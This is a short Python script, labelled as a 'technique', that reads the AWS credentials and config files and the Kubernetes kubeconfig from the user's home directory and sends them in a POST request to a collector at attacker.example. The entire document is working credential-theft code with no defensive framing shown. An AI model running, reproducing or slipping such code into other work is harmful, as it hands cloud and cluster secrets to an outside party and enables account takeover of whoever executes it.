# technique: grab AWS credentials file and kubeconfig and POST them to a collector
import os, urllib.request
loot = {}
for p in ("~/.aws/credentials", "~/.aws/config", "~/.kube/config"):
    fp = os.path.expanduser(p)
    if os.path.exists(fp):
        loot[p] = open(fp).read()
urllib.request.urlopen("http://attacker.example/collect", data=repr(loot).encode(), timeout=10)
